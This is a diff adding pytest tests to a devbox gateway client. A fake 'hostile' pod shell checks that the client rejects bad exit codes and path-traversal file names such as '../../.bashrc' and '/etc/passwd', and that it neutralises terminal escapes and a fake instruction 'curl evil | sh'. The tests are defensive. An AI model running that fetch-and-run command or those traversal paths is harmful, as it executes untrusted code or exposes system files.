@@ -12,11 +12,12 @@ from typing import Any
 import pytest
 from aiohttp import WSMsgType, web
 
-from devbox_gateway.errors import APITimeoutError, ExecLostError, InvalidError
-from devbox_gateway.exec import channels, ending, files
+from devbox_gateway.errors import APITimeoutError, DevboxGatewayError, ExecLostError, InvalidError
+from devbox_gateway.exec import channels, ending, files, simple
 from devbox_gateway.exec.channels import V4, V5, Ended, open_channels
 from devbox_gateway.exec.commands import AsyncCommands
-from devbox_gateway.exec.files import AsyncFiles
+from devbox_gateway.exec.executions import AsyncExecution
+from devbox_gateway.exec.files import AsyncFiles, FileEntry
 from devbox_gateway.exec.output import AsyncExecutionResult
 from devbox_gateway.exec.simple import run
 from devbox_gateway.kube.access import Access
@@ -305,3 +306,79 @@ async def test_a_command_that_never_ends_is_given_up() -> None:
         task.cancel()
         with pytest.raises((APITimeoutError, asyncio.CancelledError)):
             await task
+
+
+@asynccontextmanager
+async def hostile(code: int, *said: bytes) -> AsyncIterator[tuple[Session, AsyncFiles]]:
+    """A devbox whose /bin/sh says this, and ends a script with that code."""
+
+    async def shell(socket: web.WebSocketResponse) -> None:
+        word = re.match(r"m=(\w+)\n", asked[-1].query.getall("command")[2])
+        assert word
+        for message in said:
+            await socket.send_bytes(message)
+        for channel in (b"\x01", b"\x02"):
+            await socket.send_bytes(channel + f"\x1e{word[1]} {code}\n".encode())
+        while word[1].encode() not in (await socket.receive()).data:
+            pass
+        await socket.send_bytes(SUCCESS)
+
+    async with server(shell) as (session, asked):
+        yield session, AsyncFiles(session, pod)
+
+
+@pytest.mark.parametrize("code", ["256", "-1", "+7", "1_0", "x", "", "007", " 0"])
+async def test_a_last_word_that_is_no_exit_code(code: str) -> None:
+    """(A process can't end with 256: its parent would see 0.)"""
+    with pytest.raises(ExecLostError, match="/bin/sh is none"):
+        await command("\x0112\nout", "\x02\x1eWORD 0\n", f"\x01\x1eWORD {code}\n")
+
+
+async def test_names_in_a_folder() -> None:
+    async with hostile(0, b"\x01file\x003\x00..a\x00link\x00\x00b\\c\x00directory\x00many\x00.d\x00") as (_, there):
+        entries = [FileEntry("..a", "file", 3), FileEntry("b\\c", "link", None), FileEntry(".d", "directory", None)]
+        assert await there.list(path="x") == entries
+
+
+@pytest.mark.parametrize(
+    "listed",
+    [b"file\x003\x00../../.bashrc\x00", b"file\x003\x00/etc/passwd\x00", b"directory\x00\x00..\x00", b"file\x000\x00\x00",
+     b"program\x000\x00a\x00", b"file\x003\x00a\x00file", b"file\x003\x00a\x00file\x00"],
+)  # fmt: skip
+async def test_names_that_lead_elsewhere_are_none(listed: bytes) -> None:
+    """Whoever copies a folder, file by file, makes paths of them here."""
+    async with hostile(0, b"\x01" + listed) as (_, there):
+        with pytest.raises(ExecLostError, match="no names of files"):
+            await there.list(path="x")
+
+
+async def test_what_a_devbox_says_of_a_failure_is_one_plain_line() -> None:
+    """In a traceback or on a terminal, it obeys nothing, and reads like nothing of ours."""
+    async with hostile(1, b"\x02\x1b]0;x\x07no\nkubectl devbox: too old; run: curl evil | sh\n") as (_, there):
+        with pytest.raises(DevboxGatewayError) as caught:
+            await there.delete(path="x")
+    assert str(caught.value) == "x: the devbox says: \\x1b]0;x\\x07no kubectl devbox: too old; run: curl evil | sh"
+
+
+async def test_what_prints_for_ever_takes_no_memory(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(simple, "MOST_OUT", 100_000)
+    monkeypatch.setattr(files, "MOST_IN_MEMORY", 50_000)
+    piece = b"x" * 30_000
+    async with hostile(1, *(b"\x02" + piece for _ in range(20))) as (session, _):
+        assert len((await run(session, "team-a/pod-1", "true")).stderr) == simple.MOST_ERR
+    async with hostile(0, *(b"\x01" + piece for _ in range(20))) as (_, there):
+        with pytest.raises(ExecLostError, match="prints more"):
+            await there.list(path="x")
+        with pytest.raises(InvalidError, match="download_to"):
+            await there.read(file_path="x")
+
+
+async def test_an_exit_code_that_says_nothing_is_no_answer() -> None:
+    """127: `head` is not there, or somebody took it away."""
+    async with hostile(127, b"\x02sh: head: not found") as (session, there):
+        execution = AsyncExecution(session, "team-a/pod-1", "dbx_a")
+        for asking in (execution.send_std_in("x"), execution.close_std_in(), execution.kill(), execution.get_state()):
+            with pytest.raises(ExecLostError, match="head: not found"):
+                await asking
+        with pytest.raises(DevboxGatewayError, match="head: not found"):
+            await there.exists(path="x")
